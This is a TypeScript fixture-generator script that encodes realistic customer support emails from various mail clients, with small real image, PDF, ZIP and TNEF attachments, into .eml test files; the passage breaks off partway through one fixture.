/**
 * Writes the sample mails in fixtures/mail/ (run once: `node --import tsx scripts/make-fixture-mails.ts`).
 * The .eml files are committed; this script documents how their bytes were made and can remake them.
 *
 * Every mail is built as a "byte string" (one JS char per byte, 0..255) with "\n" line ends, then
 * written with the line ending the mail is meant to have (CRLF as on the wire, or LF as in a
 * Maildir/mbox copy). Text in a non-ASCII charset only ever enters through the encoders below, so
 * the bytes are exactly the ones a real client would send; a stray char > 0xFF aborts the run.
 */
import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync } from 'node:zlib';
import iconv from 'iconv-lite';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const outDir = join(root, 'fixtures', 'mail');
const corpusDir = join(root, 'fixtures', 'bounce-corpus');

// ---------------------------------------------------------------- byte helpers

/** Text in a charset, as a byte string. */
function bytes(text: string, charset: string): string {
  if (charset.toLowerCase() === 'iso-2022-jp') return iso2022jp(text);
  return iconv.encode(text, charset).toString('latin1');
}
const u8 = (text: string) => bytes(text, 'utf-8');

/**
 * ISO-2022-JP (RFC 1468): JIS X 0208 characters are the EUC-JP bytes minus 0x80, between
 * ESC $ B and ESC ( B. iconv-lite has EUC-JP but no ISO-2022-JP encoder.
 */
function iso2022jp(text: string): string {
  let out = '';
  let jis = false;
  for (const ch of text) {
    const cp = ch.codePointAt(0)!;
    if (cp < 0x80) {
      if (jis) out += '\x1b(B';
      jis = false;
      out += ch;
      continue;
    }
    const euc = iconv.encode(ch, 'euc-jp');
    if (euc.length !== 2 || euc[0]! < 0xa1) throw new Error(`not in JIS X 0208: ${ch}`);
    if (!jis) out += '\x1b$B';
    jis = true;
    out += String.fromCharCode(euc[0]! - 0x80, euc[1]! - 0x80);
  }
  if (jis) out += '\x1b(B';
  return out;
}

/** Base64 in 76-column lines (RFC 2045 6.8). */
function b64(data: Buffer | string): string {
  const buf = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return (buf.toString('base64').match(/.{1,76}/g) ?? []).join('\n');
}

/** Quoted-printable of a byte string (RFC 2045 6.7): soft breaks at 76, trailing blanks encoded. */
function qp(byteText: string): string {
  const hex = (c: number) => '=' + c.toString(16).toUpperCase().padStart(2, '0');
  const out: string[] = [];
  for (const line of byteText.split('\n')) {
    let cur = '';
    for (let i = 0; i < line.length; i++) {
      const c = line.charCodeAt(i);
      const last = i === line.length - 1;
      let tok: string;
      if (c === 0x20 || c === 0x09) tok = last ? hex(c) : line[i]!;
      else if (c >= 33 && c <= 126 && c !== 61) tok = line[i]!;
      else tok = hex(c);
      if (cur.length + tok.length > 75) {
        out.push(cur + '=');
        cur = '';
      }
      cur += tok;
    }
    out.push(cur);
  }
  return out.join('\n');
}

/** RFC 2047 B encoded-words, `per` characters each, folded onto continuation lines. */
function ewB(text: string, charset = 'UTF-8', per = 14): string {
  const chars = [...text];
  const words: string[] = [];
  for (let i = 0; i < chars.length; i += per) {
    const part = bytes(chars.slice(i, i + per).join(''), charset);
    words.push(`=?${charset}?B?${Buffer.from(part, 'latin1').toString('base64')}?=`);
  }
  return words.join('\n ');
}

/** RFC 2047 Q encoded-word (one word; callers keep them short). */
function ewQ(text: string, charset = 'UTF-8'): string {
  let enc = '';
  for (const ch of bytes(text, charset)) {
    const c = ch.charCodeAt(0);
    if (c === 0x20) enc += '_';
    else if (/[A-Za-z0-9!*+\-/]/.test(ch)) enc += ch;
    else enc += '=' + c.toString(16).toUpperCase().padStart(2, '0');
  }
  return `=?${charset}?Q?${enc}?=`;
}

// ---------------------------------------------------------------- tiny real binaries

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = crcTable[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A real PNG (RGB, 8 bit) drawn by `pixel(x, y)`. */
function png(w: number, h: number, pixel: (x: number, y: number) => [number, number, number]): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const raw = Buffer.alloc(h * (1 + w * 3));
  for (let y = 0; y < h; y++) {
    for (let x = 0; x < w; x++) raw.set(pixel(x, y), y * (1 + w * 3) + 1 + x * 3);
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The classic 1x1 transparent GIF89a (a real, 42-byte image; the tracking pixel of many mailers). */
const GIF_1X1 = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');

/** A one-page PDF with a correct xref table. */
function pdf(lines: string[]): Buffer {
  const content = ['BT /F1 12 Tf 56 780 Td 14 TL', ...lines.map((l) => `(${l}) '`), 'ET'].join('\n');
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A ZIP archive with stored (uncompressed) entries. */
function zip(files: { name: string; data: string }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const dosTime = (9 << 11) | (30 << 5); // 09:30:00
  const dosDate = ((2025 - 1980) << 9) | (3 << 5) | 3; // 2025-03-03
  for (const f of files) {
    const name = Buffer.from(f.name, 'utf8');
    const data = Buffer.from(f.data, 'utf8');
    const crc = crc32(data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(dosTime, 10);
    lh.writeUInt16LE(dosDate, 12);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(data.length, 18);
    lh.writeUInt32LE(data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(dosTime, 12);
    ch.writeUInt16LE(dosDate, 14);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    locals.push(lh, name, data);
    centrals.push(ch, name);
    offset += lh.length + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** The start of a TNEF stream (winmail.dat): signature 0x223E9F78, key, then a version attribute. */
const TNEF = Buffer.concat([
  Buffer.from([0x78, 0x9f, 0x3e, 0x22, 0x5a, 0x01, 0x01, 0x06, 0x90, 0x08, 0x00, 0x04, 0x00, 0x00, 0x00]),
  Buffer.from([0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x01, 0x07, 0x90, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00]),
  Buffer.from(
    '\xe4\x04\x00\x00\x00\x00\x00\x00\xe8\x00\x01\x08\x80\x07\x00\x18\x00\x00\x00IPM.Microsoft Mail.Note\x00',
    'latin1',
  ),
]);

const assets = {
  logoPng: png(24, 8, (x) => (x < 8 ? [0x1f, 0x5c, 0x99] : x < 16 ? [0xff, 0xff, 0xff] : [0xe3, 0x6c, 0x0a])),
  screenshotPng: png(32, 20, (x, y) =>
    y < 4 ? [0x33, 0x33, 0x33] : (x + y) % 7 === 0 ? [0xc0, 0x20, 0x20] : [0xf4, 0xf4, 0xf4],
  ),
  gif: GIF_1X1,
  invoicePdf: pdf(['ACME Hosting AS - Invoice 2025-0311', 'Customer 10442', 'Amount due: NOK 1 249,00']),
  scanPdf: pdf(['Scanned document', 'Device: MFP-3F-EAST']),
  logsZip: zip([
    {
      name: 'sync.log',
      data: '2025-03-03T08:12:44Z ERROR sync: token expired (401)\n2025-03-03T08:12:45Z INFO retry in 30s\n',
    },
    {
      name: 'config/settings.json',
      data: '{"server":"https://sod.superoffice.example/Cust12345","retries":3}\n',
    },
  ]),
  tnef: TNEF,
};

// ---------------------------------------------------------------- writing

interface FixtureMail {
  name: string;
  eol: '\r\n' | '\n';
  /** The mail as a byte string with "\n" line ends. */
  body: string;
}

function write(mail: FixtureMail): void {
  const text = mail.body.endsWith('\n') ? mail.body : mail.body + '\n';
  for (let i = 0; i < text.length; i++) {
    if (text.charCodeAt(i) > 0xff) throw new Error(`${mail.name}: char > 0xFF at ${i}; use bytes()/u8()`);
    if (text[i] === '\r') throw new Error(`${mail.name}: raw CR at ${i}; line ends are added on write`);
  }
  const withEol = mail.eol === '\n' ? text : text.replace(/\n/g, '\r\n');
  writeFileSync(join(outDir, `${mail.name}.eml`), Buffer.from(withEol, 'latin1'));
}

/** Real bounces from the BSD-2 corpus (fixtures/bounce-corpus), copied byte for byte. */
const BOUNCES: { from: string; to: string }[] = [
  { from: 'lhost-postfix-01.eml', to: '049-bounce-postfix.eml' },
  { from: 'lhost-exim-01.eml', to: '050-bounce-exim.eml' },
  { from: 'lhost-qmail-01.eml', to: '051-bounce-qmail.eml' },
  { from: 'lhost-office365-01.eml', to: '052-bounce-office365.eml' },
  { from: 'lhost-exchange2007-01.eml', to: '053-bounce-exchange2007.eml' },
  { from: 'lhost-gmail-01.eml', to: '054-bounce-gmail.eml' },
  { from: 'lhost-amazonses-01.eml', to: '055-bounce-amazonses.eml' },
  { from: 'arf-01.eml', to: '056-bounce-feedback-report-arf.eml' },
];

function run(mails: FixtureMail[]): void {
  mkdirSync(outDir, { recursive: true });
  for (const m of mails) write(m);
  for (const b of BOUNCES) copyFileSync(join(corpusDir, 'eml', b.from), join(outDir, b.to));
  copyFileSync(join(corpusDir, 'LICENSE'), join(outDir, 'LICENSE.bounce-corpus'));
  console.log(`wrote ${mails.length} mails and ${BOUNCES.length} corpus bounces to ${outDir}`);
}

// ---------------------------------------------------------------- the mails

const m = (name: string, eol: '\r\n' | '\n', body: string): FixtureMail => ({ name, eol, body });
const CRLF = '\r\n' as const;
const LF = '\n' as const;

const PLAIN: FixtureMail[] = [
  m(
    '001-plain-text-lf',
    LF,
    `Return-Path: <kari.nordmann@example.no>
Delivered-To: support@acme.example
Received: from mx1.example.no (mx1.example.no [192.0.2.10])
\tby mx.acme.example (Postfix) with ESMTPS id 4Q1x2Y0abcz9sLm
\tfor <support@acme.example>; Mon,  3 Mar 2025 08:02:11 +0100 (CET)
From: Kari Nordmann <kari.nordmann@example.no>
To: support@acme.example
Subject: Cannot log in to the customer portal
Date: Mon, 3 Mar 2025 08:02:05 +0100
Message-ID: <e5b1c0f2-91d4-4a7e-8d0b-3f1f5b9e2a11@example.no>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hello,

since this morning I cannot log in to the customer portal. The page says
"Your session has expired" right after I enter my password.

Customer number: 10442

Regards,
Kari Nordmann
`,
  ),
  m(
    '002-plain-text-crlf',
    CRLF,
    `Received: from EX01.corp.example.com (10.1.2.3) by EX02.corp.example.com
 (10.1.2.4) with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; Mon, 3 Mar 2025
 09:10:44 +0100
From: "Hansen, Per" <per.hansen@corp.example.com>
To: "support@acme.example" <support@acme.example>
Subject: VPN client crashes on start
Thread-Topic: VPN client crashes on start
Thread-Index: AdmN3k0dS2l0c3VwcG9ydEFDTUU=
Date: Mon, 3 Mar 2025 08:10:43 +0000
Message-ID: <AM9PR03MB7012F1C3A1B2C3D4E5F6A7B8C9D0@AM9PR03MB7012.eurprd03.prod.outlook.com>
Accept-Language: nb-NO, en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Hi,

the VPN client (version 7.2.1) crashes immediately after start on my laptop=
 since the Windows update yesterday. Event log says "faulting module vpnc=
ore.dll".

Best regards
Per Hansen
IT Operations, Corp Example
`,
  ),
];

const outlookHtml = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}
o\\:* {behavior:url(#default#VML);}
w\\:* {behavior:url(#default#VML);}
.shape {behavior:url(#default#VML);}
</style><![endif]--><style><!--
/* Font Definitions */
@font-face
\t{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}
@font-face
\t{font-family:Calibri;
\tpanose-1:2 15 5 2 2 2 4 3 2 4;}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Calibri",sans-serif;
\tmso-ligatures:standardcontextual;}
a:link, span.MsoHyperlink
\t{mso-style-priority:99;
\tcolor:#0563C1;
\ttext-decoration:underline;}
.MsoChpDefault
\t{mso-style-type:export-only;}
@page WordSection1
\t{size:612.0pt 792.0pt;
\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1
\t{page:WordSection1;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hi Service Desk,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Our invoice run failed again tonight. The job log shows <b>&quot;timeout after 300 s&quot;</b> for the export step.<o:p></o:p></p>
<p class="MsoNormal">This blocks month-end closing, so we need help <span style="color:red">today</span>.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<!--[if mso]>
<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com:office:word" href="https://portal.corp.example.com/jobs/8812" style="height:36px;v-text-anchor:middle;width:180px;" arcsize="10%" strokecolor="#1F5C99" fillcolor="#1F5C99">
<w:anchorlock/>
<center style="color:#ffffff;font-family:sans-serif;font-size:13px;font-weight:bold;">Open job 8812</center>
</v:roundrect>
<![endif]--><!--[if !mso]><!-- --><a href="https://portal.corp.example.com/jobs/8812" style="background-color:#1F5C99;border-radius:4px;color:#ffffff;display:inline-block;font-family:sans-serif;font-size:13px;font-weight:bold;line-height:36px;text-align:center;text-decoration:none;width:180px;">Open job 8812</a><!--<![endif]-->
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Med vennlig hilsen / Kind regards<o:p></o:p></p>
<p class="MsoNormal"><b>Ingrid Berg</b><o:p></o:p></p>
<p class="MsoNormal">Finance Systems | Corp Example AS<o:p></o:p></p>
</div>
</body>
</html>`;

const RICH: FixtureMail[] = [
  m(
    '003-gmail-multipart-alternative',
    CRLF,
    `Delivered-To: support@acme.example
Received: by 2002:a05:7108:1a4e:b0:3a1:2f7e:5c91 with SMTP id bn14csp1736512gdb;
        Mon, 3 Mar 2025 01:14:51 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=gmail.com; s=20230601; t=1740993290; x=1741598090; darn=acme.example;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject
         :date:message-id:reply-to;
        bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
        b=Qm9ndXNTaWduYXR1cmVGb3JGaXh0dXJlc09ubHlOb3RSZWFsbHlWYWxpZA==
MIME-Version: 1.0
From: Lars Olsen <lars.olsen.1987@gmail.com>
Date: Mon, 3 Mar 2025 10:14:39 +0100
Message-ID: <CAF3x9qN8bX1kz+ZQvE0hT5m2pYdW7o0aUe2Lr4cJqB6nS1iKpA@mail.gmail.com>
Subject: Order 55120 arrived damaged
To: support@acme.example
Content-Type: multipart/alternative; boundary="000000000000a8c3f2062f6b1d4e"

--000000000000a8c3f2062f6b1d4e
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`Hi,

my order 55120 arrived today, but the box was crushed and the monitor stand is bent. I attached nothing yet — can you tell me how you want the photos?

Thanks,
Lars`),
)}

--000000000000a8c3f2062f6b1d4e
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(u8(`<div dir="ltr"><div>Hi,</div><div><br></div><div>my order 55120 arrived today, but the box was crushed and the monitor stand is bent. I attached nothing yet — can you tell me how you want the photos?</div><div><br></div><div>Thanks,</div><div>Lars</div></div>`))}

--000000000000a8c3f2062f6b1d4e--
`,
  ),
  m(
    '004-outlook-html-conditional-vml',
    CRLF,
    `Received: from DB9PR02MB7321.eurprd02.prod.outlook.com (2603:10a6:10:2a5::14)
 by AS8PR02MB9952.eurprd02.prod.outlook.com with HTTPS; Mon, 3 Mar 2025
 09:31:07 +0000
From: Ingrid Berg <ingrid.berg@corp.example.com>
To: Service Desk <support@acme.example>
Subject: URGENT: invoice run failed again
Thread-Topic: URGENT: invoice run failed again
Thread-Index: AdmN4aQ7b2xkX2ludm9pY2VfcnVuX2ZhaWxlZA==
Importance: high
X-Priority: 1
Date: Mon, 3 Mar 2025 09:31:05 +0000
Message-ID: <DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72@DB9PR02MB7321.eurprd02.prod.outlook.com>
Accept-Language: en-US, nb-NO
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-exchange-senderadcheck: 1
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_"
MIME-Version: 1.0

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

${b64(
  u8(`Hi Service Desk,

Our invoice run failed again tonight. The job log shows "timeout after 300 s" for the export step.
This blocks month-end closing, so we need help today.

Open job 8812 <https://portal.corp.example.com/jobs/8812>

Med vennlig hilsen / Kind regards
Ingrid Berg
Finance Systems | Corp Example AS
`),
)}

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

${qp(u8(outlookHtml))}

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_--
`,
  ),
  m(
    '005-html-only-web-form',
    LF,
    `Return-Path: <www-data@web01.acme.example>
Received: from web01.acme.example (web01.acme.example [198.51.100.21])
\tby mx.acme.example (Postfix) with ESMTP id 4Q1x7K2mZtz9sQr
\tfor <support@acme.example>; Mon,  3 Mar 2025 11:02:40 +0100 (CET)
Date: Mon, 3 Mar 2025 11:02:40 +0100
To: support@acme.example
From: ACME Website <no-reply@acme.example>
Reply-To: Sofie Lund <sofie.lund@example.dk>
Subject: Contact form: question about SLA
Message-ID: <kQ7uV2rX9bN4mC1pZ8yT5wE3sA6dF0gH@web01.acme.example>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

${u8(`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Contact form</title></head>
<body style="font-family:Arial,sans-serif">
<h2>New contact form submission</h2>
<table cellpadding="4" border="1" style="border-collapse:collapse">
<tr><th align="left">Name</th><td>Sofie Lund</td></tr>
<tr><th align="left">E-mail</th><td><a href="mailto:sofie.lund@example.dk">sofie.lund@example.dk</a></td></tr>
<tr><th align="left">Company</th><td>Lund &amp; Søn ApS</td></tr>
<tr><th align="left">Message</th><td>Hej! Does the Gold SLA include weekend support,<br>and what is the response time for priority&nbsp;1?</td></tr>
</table>
<p style="color:#888;font-size:11px">Sent from https://www.acme.example/contact at 2025-03-03 11:02:40</p>
</body></html>`)}
`,
  ),
  m(
    '006-apple-mail-related-inline-images',
    LF,
    `Return-Path: <emma.strand@example.se>
Received: from smtpclient.apple (c-203-0-113-45.example.se [203.0.113.45])
\tby smtp.example.se (Postfix) with ESMTPSA id 8B1C2D3E4F
\tfor <support@acme.example>; Mon,  3 Mar 2025 12:20:01 +0100 (CET)
From: Emma Strand <emma.strand@example.se>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: Error dialog when exporting report
Message-Id: <9C1F2A3B-4D5E-6F70-8192-A3B4C5D6E7F8@example.se>
Date: Mon, 3 Mar 2025 12:19:48 +0100
To: support@acme.example
X-Mailer: Apple Mail (2.3774.600.62)


--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

${qp(
  u8(`Hi,

when I export the monthly report I get this dialog:



Then the app closes. Our logo is below for reference.



Emma Strand
Strand Design AB`),
)}
--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9"


--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

${qp(u8(`<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Hi,<div><br></div><div>when I export the monthly report I get this dialog:</div><div><br></div><div><img apple-inline="yes" id="7E2B1C4D-0F9A-4B8C-9D1E-2F3A4B5C6D7E" src="cid:C3D4E5F6-0718-4293-A4B5-C6D7E8F90A1B" alt="Screenshot 2025-03-03 at 12.17.55.png"></div><div><br></div><div>Then the app closes. Our logo is below for reference.</div><div><br></div><div><img apple-inline="yes" id="8F3C2D5E-1A0B-4C9D-8E2F-3A4B5C6D7E8F" src="cid:D4E5F607-1829-43A4-B5C6-D7E8F90A1B2C" alt="logo.png"><img src="cid:E5F60718-293A-44B5-C6D7-E8F90A1B2C3D" width="1" height="1" alt=""></div><div><br></div><div>Emma Strand</div><div>Strand Design AB</div></body></html>`))}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename="Screenshot 2025-03-03 at 12.17.55.png"
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="Screenshot 2025-03-03 at 12.17.55.png"
Content-Id: <C3D4E5F6-0718-4293-A4B5-C6D7E8F90A1B>

${b64(assets.screenshotPng)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=logo.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="logo.png"
Content-Id: <D4E5F607-1829-43A4-B5C6-D7E8F90A1B2C>

${b64(assets.logoPng)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=spacer.gif
Content-Type: image/gif;
\tname="spacer.gif"
Content-Id: <E5F60718-293A-44B5-C6D7-E8F90A1B2C3D>

${b64(assets.gif)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9--

--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718--
`,
  ),
];

/** The mail that 009 forwards as an attachment (a complete message of its own). */
const forwardedOriginal = `Return-Path: <billing@vendor.example>
Received: from mail.vendor.example (mail.vendor.example [203.0.113.80])
\tby mx.example.org (Postfix) with ESMTPS id 7F2A91C0
\tfor <ole.brun@example.org>; Fri, 28 Feb 2025 16:40:12 +0100 (CET)
From: Vendor Billing <billing@vendor.example>
To: ole.brun@example.org
Subject: Your licence renewal (contract 2025-118)
Date: Fri, 28 Feb 2025 16:40:02 +0100
Message-ID: <renewal-2025-118.1740757202@vendor.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`Dear customer,

your licence for 25 seats expires on 31 March 2025. Renewal price: 12 500 NOK.
Reply to this mail to renew.

Vendor Billing`),
)}
`;

const ATTACH: FixtureMail[] = [
  m(
    '007-thunderbird-pdf-attachment',
    LF,
    `Return-Path: <ole.brun@example.org>
Received: from [192.168.1.34] (cm-84-210-5-6.example.org [84.210.5.6])
\tby smtp.example.org (Postfix) with ESMTPSA id 1D2E3F40
\tfor <support@acme.example>; Tue,  4 Mar 2025 09:05:31 +0100 (CET)
Message-ID: <3f8e2c1a-7b4d-4e9f-a0c2-5d6e7f8a9b0c@example.org>
Date: Tue, 4 Mar 2025 09:05:29 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: support@acme.example
From: Ole Brun <ole.brun@example.org>
Subject: Invoice 2025-0311 charged twice
Content-Type: multipart/mixed; boundary="------------0aB1cD2eF3gH4iJ5kL6mN7oP"

This is a multi-part message in MIME format.
--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

we were charged twice for invoice 2025-0311 (see attached PDF and our 
bank statement lines of 1 and 2 March). Please refund one of the 
payments.

-- 
Ole Brun
Brun Regnskap AS

--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: application/pdf; name="invoice-2025-0311.pdf"
Content-Disposition: attachment; filename="invoice-2025-0311.pdf"
Content-Transfer-Encoding: base64

${b64(assets.invoicePdf)}

--------------0aB1cD2eF3gH4iJ5kL6mN7oP--
`,
  ),
  m(
    '008-outlook-zip-attachment',
    CRLF,
    `From: "Hansen, Per" <per.hansen@corp.example.com>
To: "support@acme.example" <support@acme.example>
Subject: Sync logs as requested
Thread-Topic: Sync logs as requested
Thread-Index: AdmOBq2ZbG9nc19yZXF1ZXN0ZWQ=
Date: Tue, 4 Mar 2025 10:12:09 +0000
Message-ID: <AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80@AM9PR03MB7012.eurprd03.prod.outlook.com>
Accept-Language: nb-NO, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Content-Type: multipart/mixed;
\tboundary="_004_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_"
MIME-Version: 1.0

--_004_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_
Content-Type: multipart/alternative;
\tboundary="_000_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_"

--_000_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hi,

attached are the sync logs from this morning (zipped, 2 files).

Per

--_000_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=
=3Dus-ascii"></head><body><div class=3D"WordSection1"><p class=3D"MsoNormal=
">Hi,</p><p class=3D"MsoNormal">attached are the sync logs from this mornin=
g (zipped, 2 files).</p><p class=3D"MsoNormal">Per</p></div></body></html>

